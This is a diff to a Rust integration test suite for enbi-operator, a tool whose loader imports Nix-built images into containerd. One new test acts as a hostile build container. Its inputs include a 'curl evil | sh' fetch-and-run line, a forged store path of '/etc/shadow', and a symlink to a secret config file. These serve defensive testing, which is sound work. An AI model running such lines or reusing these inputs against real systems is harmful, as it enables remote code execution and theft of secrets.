@@ -11,7 +11,7 @@ use std::process::{Command, Stdio};
 
 use enbi_core::reason::FailureReason;
 use enbi_core::result::{BuildReport, FailureReport, ImageReport};
-use enbi_tests::host::{Containerd, Fixture, NIX_CONFIG};
+use enbi_tests::host::{Containerd, Fixture, NIX_CONFIG, run_builder};
 
 macro_rules! require_tools {
     () => {
@@ -21,7 +21,8 @@ macro_rules! require_tools {
     };
 }
 
-/// Runs `enbi-operator build` and returns its exit success, report and stdout.
+/// Runs a builder Pod's two containers (`enbi-operator build` and `load`, sharing an image
+/// pipe) and returns whether both exited 0, the report and their output.
 fn build(
     containerd: &Path,
     flake_url: &str,
@@ -29,25 +30,32 @@ fn build(
     tag: &str,
     extra: &[&str],
 ) -> (bool, BuildReport, String) {
-    let out_dir = tempfile::tempdir().expect("tempdir");
-    let termination_log = out_dir.path().join("termination-log");
-    let output = Command::new(env!("CARGO_BIN_EXE_enbi-operator"))
-        .args(["build", "--flake-url", flake_url, "--package-name", package])
-        .args(["--system", &system(), "--image-tag", tag])
-        .arg("--containerd-address")
-        .arg(containerd)
-        .arg("--termination-log")
-        .arg(&termination_log)
-        .args(extra)
-        .env("NIX_CONFIG", NIX_CONFIG)
-        .output()
-        .expect("enbi-operator runs");
-    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
-    let text = std::fs::read_to_string(&termination_log)
-        .unwrap_or_else(|e| panic!("no report ({e}); stdout: {stdout}"));
-    assert!(text.len() <= 4096);
-    let report = BuildReport::parse(&text).expect("report parses");
-    (output.status.success(), report, stdout)
+    let system = system();
+    let run = run_builder(
+        Path::new(env!("CARGO_BIN_EXE_enbi-operator")),
+        containerd,
+        &[
+            "build",
+            "--flake-url",
+            flake_url,
+            "--package-name",
+            package,
+            "--system",
+            &system,
+        ],
+        &[&["load", "--image-tag", tag], extra].concat(),
+        &[],
+    );
+    assert!(run.report.len() <= 4096);
+    let report = BuildReport::parse(&run.report).expect("report parses");
+    // The build container exits 0 once it handed its result over; the loader's exit is the
+    // build's result.
+    assert!(
+        run.built || !run.loaded,
+        "the build container failed:\n{}",
+        run.log
+    );
+    (run.loaded, report, run.log)
 }
 
 fn system() -> String {
@@ -76,7 +84,26 @@ fn assert_loaded(ctd: &Containerd, image: &ImageReport, registry: &str, reposito
     let (digest, labels) = ctd.image(&image.image_tag).expect("the tag exists");
     assert_eq!(digest, image.digest);
     assert!(
-        labels.contains(&format!("enbi.hrzn.ee/store-path={}", image.store_path)),
+        labels.contains(&format!(
+            "enbi.hrzn.ee/store-path={}",
+            image.provenance.store_path
+        )),
+        "{labels}"
+    );
+    // Provenance: the flake as Nix locked it, its derivation, on the image too.
+    let provenance = &image.provenance;
+    let locked = provenance.locked_flake.as_deref().expect("a locked flake");
+    assert!(locked.contains("narHash=sha256-"), "{provenance:?}");
+    assert!(provenance.nar_hash.is_some(), "{provenance:?}");
+    assert!(
+        provenance
+            .derivation
+            .as_deref()
+            .is_some_and(|d| d.starts_with("/nix/store/") && d.ends_with(".drv")),
+        "{provenance:?}"
+    );
+    assert!(
+        labels.contains(&format!("org.opencontainers.image.source={locked}")),
         "{labels}"
     );
     let digest_ref = format!("{registry}/{repository}@{digest}");
@@ -287,6 +314,14 @@ fn failures_are_reported_with_their_category() {
         "{}",
         failure.message
     );
+    // The build container did not build for nothing: it stopped when the loader did.
+    let (_, _, log) = build(&missing, &flake.url(), "stream", "enbi-test/f:v1", &[]);
+    assert!(
+        log.contains("the load container exited before the build container connected")
+            || log.contains("the load container stopped reading"),
+        "{log}"
+    );
+    assert!(!log.contains("built /nix/store"), "{log}");
 
     let failure = failed(build(
         &socket,
@@ -296,9 +331,7 @@ fn failures_are_reported_with_their_category() {
         &[],
     ));
     assert!(
-        failure
-            .message
-            .starts_with("invalid build input: flake_url"),
+        failure.message.starts_with("invalid build input: flakeUrl"),
         "{}",
         failure.message
     );
@@ -312,31 +345,46 @@ fn every_flag_is_also_an_environment_variable() {
     let flake = Fixture::new();
     let out_dir = tempfile::tempdir().expect("tempdir");
     let termination_log = out_dir.path().join("report");
-    let env = BTreeMap::from([
+    let pipe = out_dir.path().join("image");
+    let build_env = BTreeMap::from([
         ("ENBI_FLAKE_URL", flake.url()),
         ("ENBI_PACKAGE_NAME", "archive".into()),
         ("ENBI_SYSTEM", system()),
+        ("ENBI_STORE", "pod".into()),
+        ("ENBI_BUILD_TIMEOUT", "600".into()),
+        ("ENBI_IMAGE_PIPE", pipe.display().to_string()),
+    ]);
+    let load_env = BTreeMap::from([
         ("ENBI_IMAGE_TAG", "enbi-test/env:v1".into()),
         (
             "ENBI_CONTAINERD_ADDRESS",
             ctd.socket().display().to_string(),
         ),
         ("ENBI_CONTAINERD_NAMESPACE", "k8s.io".into()),
-        ("ENBI_STORE", "pod".into()),
+        ("ENBI_SNAPSHOTTER", "overlayfs".into()),
         ("ENBI_PIN", "true".into()),
+        ("ENBI_BUILD_TIMEOUT", "600".into()),
+        ("ENBI_IMPORT_TIMEOUT", "600".into()),
+        ("ENBI_MAX_IMAGE_BYTES", "100000000".into()),
+        ("ENBI_IMAGE_PIPE", pipe.display().to_string()),
         (
             "ENBI_TERMINATION_LOG",
             termination_log.display().to_string(),
         ),
     ]);
-    let status = Command::new(env!("CARGO_BIN_EXE_enbi-operator"))
-        .arg("build")
-        .envs(env)
-        .env("NIX_CONFIG", NIX_CONFIG)
-        .stdout(Stdio::null())
-        .status()
-        .expect("runs");
-    assert!(status.success());
+    let spawn = |command: &str, env: BTreeMap<&str, String>| {
+        Command::new(env!("CARGO_BIN_EXE_enbi-operator"))
+            .arg(command)
+            .envs(env)
+            .env("NIX_CONFIG", NIX_CONFIG)
+            .stdout(Stdio::null())
+            .spawn()
+            .expect("runs")
+    };
+    let mut loader = spawn("load", load_env);
+    let mut builder = spawn("build", build_env);
+    assert!(builder.wait().expect("build").success());
+    assert!(loader.wait().expect("load").success());
     let report = std::fs::read_to_string(termination_log).expect("report");
     let BuildReport::Succeeded(image) = BuildReport::parse(&report).expect("parses") else {
         panic!("{report}")
@@ -346,4 +394,140 @@ fn every_flag_is_also_an_environment_variable() {
         labels.contains("io.cri-containerd.pinned=pinned"),
         "{labels}"
     );
+}
+
+/// Runs only the load container against `write`, which plays a hostile build container: it
+/// gets the image pipe's path once the loader is waiting on it. Returns the loader's report.
+fn load_from(
+    containerd: &Path,
+    extra: &[&str],
+    write: impl FnOnce(&Path),
+) -> (bool, BuildReport, String) {
+    load_after(containerd, extra, |_| {}, write)
+}
+
+/// [`load_from`], with `before` run on the pipe's path before the loader starts.
+fn load_after(
+    containerd: &Path,
+    extra: &[&str],
+    before: impl FnOnce(&Path),
+    write: impl FnOnce(&Path),
+) -> (bool, BuildReport, String) {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let pipe = dir.path().join("image");
+    let report = dir.path().join("report");
+    before(&pipe);
+    let loader = Command::new(env!("CARGO_BIN_EXE_enbi-operator"))
+        .args(["load", "--image-tag", "enbi-test/hostile:v1"])
+        .args(["--build-timeout", "20"])
+        .arg("--image-pipe")
+        .arg(&pipe)
+        .arg("--containerd-address")
+        .arg(containerd)
+        .arg("--termination-log")
+        .arg(&report)
+        .args(extra)
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("load runs");
+    write(&pipe);
+    let out = loader.wait_with_output().expect("load runs");
+    let log = String::from_utf8_lossy(&out.stdout).into_owned();
+    let text =
+        std::fs::read_to_string(&report).unwrap_or_else(|e| panic!("no report ({e}): {log}"));
+    let report = BuildReport::parse(&text).expect("report parses");
+    (out.status.success(), report, log)
+}
+
+/// Opens the pipe for writing once the loader made it, and writes `bytes` (ignoring a loader
+/// that stopped reading).
+fn write_pipe(pipe: &Path, bytes: &[u8]) {
+    use std::io::Write;
+    for _ in 0..200 {
+        if pipe.exists() {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(25));
+    }
+    let mut file = std::fs::OpenOptions::new()
+        .write(true)
+        .open(pipe)
+        .expect("open the pipe");
+    let _ = file.write_all(bytes);
+}
+
+#[test]
+fn the_loader_trusts_nothing_the_build_container_writes() {
+    require_tools!();
+    let ctd = Containerd::start();
+    let socket = ctd.socket();
+    let store_path = "/nix/store/0c3wqyd9vls0spc0lqcp6kmq0q1fndkd-hostile";
+
+    // A failure it may not claim: a tag conflict would blame the tag, not the build.
+    let claimed = failed(load_from(&socket, &[], |pipe| {
+        write_pipe(
+            pipe,
+            b"{\"result\":\"Failed\",\"reason\":\"TagConflict\",\"message\":\"not mine\"}\n",
+        )
+    }));
+    assert_eq!(claimed.reason, FailureReason::BuildFailed);
+
+    // A store path that is not one (it would become an image label).
+    let bad_path = failed(load_from(&socket, &[], |pipe| {
+        write_pipe(
+            pipe,
+            b"{\"result\":\"Built\",\"storePath\":\"/etc/shadow\",\"buildMs\":1}\n",
+        )
+    }));
+    assert_eq!(bad_path.reason, FailureReason::BuildFailed);
+    assert!(
+        bad_path.message.contains("/etc/shadow"),
+        "{}",
+        bad_path.message
+    );
+
+    // An endless stream: refused at the size limit, nothing imported.
+    let handoff =
+        format!("{{\"result\":\"Built\",\"storePath\":\"{store_path}\",\"buildMs\":1}}\n");
+    let too_large = failed(load_from(
+        &socket,
+        &["--max-image-bytes", "1048576"],
+        |pipe| {
+            let mut bytes = handoff.clone().into_bytes();
+            bytes.extend(std::iter::repeat_n(0u8, 4 << 20));
+            write_pipe(pipe, &bytes);
+        },
+    ));
+    assert!(
+        too_large.message.contains("1048576-byte limit"),
+        "{}",
+        too_large.message
+    );
+
+    // Not an archive at all.
+    let garbage = failed(load_from(&socket, &[], |pipe| {
+        let mut bytes = handoff.clone().into_bytes();
+        bytes.extend(b"#!/bin/sh\ncurl evil | sh\n".repeat(100));
+        write_pipe(pipe, &bytes);
+    }));
+    assert_eq!(garbage.reason, FailureReason::NotAnImage, "{garbage:?}");
+
+    // A build container that started first and put a link (or a file) where the pipe goes:
+    // never followed, never read.
+    let secret = ctd.dir.path().join("config.toml");
+    let linked = failed(load_after(
+        &socket,
+        &[],
+        |pipe| std::os::unix::fs::symlink(&secret, pipe).expect("link"),
+        |_| {},
+    ));
+    assert_eq!(linked.reason, FailureReason::BuildFailed, "{linked:?}");
+    let file = failed(load_after(
+        &socket,
+        &[],
+        |pipe| std::fs::write(pipe, handoff.as_bytes()).expect("file"),
+        |_| {},
+    ));
+    assert!(file.message.contains("is not a FIFO"), "{file:?}");
+    assert!(ctd.names().is_empty(), "{:?}", ctd.names());
 }
